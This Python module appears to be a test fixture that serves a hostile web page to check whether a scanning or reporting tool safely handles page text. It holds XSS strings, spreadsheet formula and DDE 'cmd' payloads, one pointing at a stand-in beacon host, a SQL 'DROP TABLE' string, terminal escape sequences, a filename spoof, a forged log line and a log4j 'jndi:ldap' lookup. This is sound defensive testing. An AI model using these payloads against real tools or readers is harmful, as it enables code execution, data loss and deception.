"""A page that puts harmful text wherever a report may quote it: names, titles, addresses, functions, buttons."""

import json

from harness.server import Request, Response, Routes

from .pieces import page, script

HOST = "names.hostile.test"
BEACON_HOST = "beacon.hostile.test"
"""Is asked only where a text of the page was taken for markup."""
MARKER = "onerror=pwned"
"""Part of the harmful texts: where it is missing, nothing was tested."""
FORGED_LINE = "FORGED: all is well"

TEXTS = (
    "<img src=x onerror=pwned=1>",
    '"><script>pwned=1</script><img src=x onerror=pwned=1>',
    "'/></title></style></textarea></script><svg onload=pwned=1 onerror=pwned=1>",
    '<img src="http://' + BEACON_HOST + ':{{http}}/x" onerror=pwned=1>',
    "javascript:pwned=1//onerror=pwned",
    '=HYPERLINK("http://' + BEACON_HOST + ':{{http}}/y")',
    "+cmd|' /C calc'!A0",
    "'; DROP TABLE scans; --",
    "\x1b[31m\x1b]0;owned\x07\x1b[2J",
    "\x9b31m\x85\x7f\x08",
    "\u202etxt.exe\u2066\u200f",
    "\n" + FORGED_LINE + "\r\n",
    "\x00\x01\u2028\ufeff",
    "{{{{7*7}}}} %s%n ${jndi:ldap://x}",
)

_SCRIPT = """
const texts = TEXTS;
texts.push("\\ud800 lone \\udfff");
const quiet = (work) => { try { return work(); } catch {} };
const all = texts.join(" ");
document.title = all;
for (const text of texts) {
  const named = {[text]() { document.cookie = text.replace(/[;=\\0-\\x1f\\x7f]/g, "") + "=1; Path=/"; }};
  quiet(() => named[text]());
  document.cookie = text + "=" + text + "; Path=/" + text;
  quiet(() => { localStorage.setItem(text, text); });
  quiet(() => { sessionStorage[text] = text; });
  quiet(() => indexedDB.open(text));
  quiet(() => caches.open(text));
  quiet(() => open("/?popup=" + text));
  quiet(() => open(text));
  quiet(() => fetch("http://third.hostile.test:{{http}}/" + text + "?" + text + "=" + text + "#" + text).catch(() => 0));
  quiet(() => new Worker("/empty.js?" + text));
  quiet(() => alert(text));
  quiet(() => document.body.append(Object.assign(document.createElement("iframe"), {name: text, srcdoc: ""})));
  quiet(() => (0, eval)('document.cookie = "sourced=1";//# sourceURL=' + text.replace(/\\s/g, "")));
  quiet(() => (0, eval)('document.cookie = "sourced2=1";//# sourceURL=https://x.test/' + encodeURI(text)));
  document.querySelector("#banner").append(Object.assign(document.createElement("button"), {textContent: "Accept all " + text}));
}
window.dataLayer = [["consent", "default", {[all]: all, ad_storage: all}]];
window.__tcfapi = (command, version, callback) => callback({tcString: all, eventStatus: all, cmpStatus: all}, true);
quiet(() => history.replaceState(null, "", "/?" + encodeURIComponent(all) + "#" + all));
""".replace("TEXTS", json.dumps(TEXTS).replace("</", "<\\/"))


def _document(request: Request) -> Response:
    """Header bytes are sent as they are: what is UTF-8 here reaches the browser as UTF-8."""
    body = '<div id="banner" style="position: fixed; bottom: 0">We use cookies. <button>Reject all</button></div><script src="/names.js"></script>'
    response = page(body, secure=False)(request)
    names = [request.fill(text) for text in TEXTS if not set(text) & set("\0\x01\x08\x07\x1b\n\r\x7f;")]
    response.cookies += [f"{name}h={name}; Path=/{name}".encode().decode("latin-1") for name in names]
    return response


SITES: list = []
ROUTES: Routes = {
    (HOST, "/"): _document,
    (HOST, "/names.js"): script(_SCRIPT),
    (HOST, "/*"): script(""),
    ("third.hostile.test", "/*"): lambda request: Response("", type="text/<img src=x onerror=pwned=1>", headers={"Access-Control-Allow-Origin": "*"}),
    (BEACON_HOST, "/*"): script(""),
}
